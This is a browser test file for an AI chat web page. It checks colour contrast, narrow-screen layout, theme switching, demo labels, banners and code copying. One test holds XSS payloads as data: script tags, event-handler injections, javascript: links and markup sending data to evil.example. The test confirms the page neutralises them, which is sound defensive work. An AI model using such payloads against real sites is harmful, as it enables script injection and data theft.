// What the page looks like, measured: text has contrast in both themes, a narrow screen never scrolls sideways, what
// nobody vouches for cannot run, a demo model is named.
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { browserNote, chromiumPath, launchBrowser, openPage } from './browser.ts';
import { poorContrast } from './contrast.ts';
import { createFakeApi, type FakeApi } from './fake-api.ts';

const EVERYTHING = [
  '# Heading\n\nText with `code`, **bold** and [a link](https://example.com).',
  '| a | b |\n| --- | ---: |\n| a cell with quite a lot of text in it | 2 |',
  `\`\`\`js\n${'const aLongLine = 1; '.repeat(20)}\n\`\`\``,
  '> quote\n\n- [x] done\n\n1. one',
  'averyveryverylongwordwithoutanyplacetobreakit'.repeat(6),
].join('\n\n');

describe.skipIf(!chromiumPath)(`the chat page's look${browserNote}`, () => {
  let browser: Browser;
  let api: FakeApi;

  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(() => browser?.close());
  beforeEach(async () => {
    api = await createFakeApi({ demo: true });
  });
  afterEach(() => api.close());

  function fill() {
    api.add('web-all', 'Show me everything there is').finish({ text: EVERYTHING, demo: true });
    api.add('web-all', 'Stop').finish({ text: 'Half', outcome: 'stopped', demo: true });
    api.add('web-all', 'Fail').finish({ text: 'It failed.', outcome: 'failed', demo: true });
    const running = api.add('web-all', 'Run');
    running.run();
    running.tool('1', 'Bash', `echo ${'long '.repeat(60)}`, 'failed');
    running.tool('2', 'Bash', 'sleep 1', 'started');
    api.add('web-all', 'Wait');
    return `${api.url}/#/c/web-all`;
  }

  test.each(['light', 'dark'] as const)(
    'every text has a contrast of at least 4.5 to 1 (%s)',
    async (colorScheme) => {
      const page = await openPage(browser, fill(), { colorScheme });
      await page.locator('.tool[data-state=started]').waitFor();
      await page.getByText('Queued').waitFor();
      expect(await page.locator('html').getAttribute('data-theme')).toBe(colorScheme);
      const { measured, poor } = await poorContrast(page, 4.5);
      expect(poor).toEqual([]);
      expect(measured).toBeGreaterThan(30);
      expect(page.defects).toEqual([]);
      await page.context().close();
    },
  );

  test('the theme follows the system until the person chooses, and the choice survives a reload', async () => {
    const page = await openPage(browser, api.url, { colorScheme: 'light' });
    const theme = () => page.locator('html').getAttribute('data-theme');
    await page.getByRole('button', { name: 'Use dark colours' }).click();
    expect(await theme()).toBe('dark');
    await page.reload();
    expect(await theme()).toBe('dark');
    await page.getByRole('button', { name: 'Use light colours' }).click();
    await page.emulateMedia({ colorScheme: 'dark' });
    await expect.poll(theme).toBe('dark');
    await page.context().close();
  });

  test('at 360 px nothing scrolls sideways but code and tables, and the list is a drawer', async () => {
    const page = await openPage(browser, fill(), {
      viewport: { width: 360, height: 640 },
      hasTouch: true,
      isMobile: true,
    });
    await page.getByText('Queued').waitFor();
    const inner =
      '.code pre, .code pre *, .table-box *, .tool-summary, .sidebar, .sidebar *, .visually-hidden';
    const wide = await page
      .locator(`body *:not(${inner})`)
      .evaluateAll((elements) =>
        elements
          .filter(
            (element) =>
              element.getBoundingClientRect().right > element.ownerDocument.documentElement.clientWidth + 0.5,
          )
          .map((element) => element.outerHTML.slice(0, 120)),
      );
    expect(wide).toEqual([]);
    expect(await page.locator('html').evaluate((html) => html.scrollWidth)).toBe(360);
    expect(
      await page.locator('#scroller').evaluate((scroller) => scroller.scrollWidth - scroller.clientWidth),
    ).toBe(0);
    const code = page.locator('.code pre');
    expect(await code.evaluate((pre) => pre.scrollWidth > pre.clientWidth)).toBe(true);
    await page.getByRole('button', { name: 'Open the list of chats' }).tap();
    await page.getByRole('link', { name: /Show me everything/ }).waitFor();
    expect(await page.locator('#main').evaluate((main) => main.inert)).toBe(true);
    await page.keyboard.press('Escape');
    await expect.poll(() => page.locator('#sidebar').isVisible()).toBe(false);
    await page.context().close();
  });

  test('markdown that nobody vouches for cannot run, load or disguise anything', async () => {
    const hostile = [
      '<script>window.hacked = 1</script>',
      '<img src=x onerror="window.hacked = 1">',
      '[click](javascript:window.hacked=1)',
      '<a href="javascript:alert(1)">raw</a>',
      '![pixel](https://evil.example/p.png?secret)',
      '<iframe src="https://evil.example"></iframe>',
      '<svg><style>*{display:none}</style></svg>',
      '<form action="https://evil.example"><input name=key></form>',
      '[data](data:text/html;base64,PHNjcmlwdD4=)',
      '`<b onclick=x>`',
      '```"onmouseover="window.hacked=1\ncode\n```',
      '[t](https://ok.example "x\\" onmouseover=\\"window.hacked=1")',
      '![a](x" onerror="window.hacked=1)',
    ].join('\n\n');
    api.add('web-xss', '<img src=x onerror="window.hacked = 1">').finish({ text: hostile });
    const page = await openPage(browser, `${api.url}/#/c/web-xss`);
    const outside: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(api.url)) outside.push(request.url());
    });
    await page.getByRole('link', { name: 'Image: pixel' }).waitFor();
    const turns = page.locator('.turns');
    expect(await turns.locator('script, img, iframe, style, form, input, object').count()).toBe(0);
    const names = await turns
      .locator('*')
      .evaluateAll((all) => all.flatMap((element) => element.getAttributeNames()));
    expect(names.length).toBeGreaterThan(20);
    expect(names.filter((name: string) => name.startsWith('on'))).toEqual([]);
    const links = await turns.locator('a[href]').evaluateAll((all) => all.map((link) => link.protocol));
    expect([...new Set(links)]).toEqual(['https:']);
    expect(await page.locator('.prose').textContent()).toContain('<script>window.hacked = 1</script>');
    expect(await page.evaluate('"hacked" in window')).toBe(false);
    expect(outside).toEqual([]);
    expect(page.defects).toEqual([]);
    await page.context().close();
  });

  test('a demo model is named in a banner and on each of its replies', async () => {
    const page = await openPage(browser, fill());
    await page.locator('#demo-banner').waitFor();
    expect(await page.locator('.badge-demo').count()).toBe(3);
    await page.context().close();
  });

  test('what the owner should know stands in a banner as the text that it is; nothing stands there by default', async () => {
    const plain = await openPage(browser, fill());
    await plain.locator('#demo-banner').waitFor();
    expect(await plain.locator('#notice-banner').isVisible()).toBe(false);
    await plain.context().close();
    const noted = await createFakeApi({ notice: 'There is no sandbox: <b>Bash</b> is refused.' });
    const page = await openPage(browser, noted.url);
    await page.getByText('There is no sandbox: <b>Bash</b> is refused.').waitFor();
    expect(page.defects).toEqual([]);
    await page.context().close();
    await noted.close();
  });

  test('code is copied by its button', async () => {
    api.add('web-copy', 'Code').finish({ text: '```sh\necho "hi" && ls\n```' });
    const page = await openPage(browser, `${api.url}/#/c/web-copy`, {
      permissions: ['clipboard-read', 'clipboard-write'],
    });
    await page.locator('.code').getByRole('button', { name: 'Copy' }).click();
    await page.locator('.code').getByText('Copied').waitFor();
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('echo "hi" && ls');
    await page.context().close();
  });
});
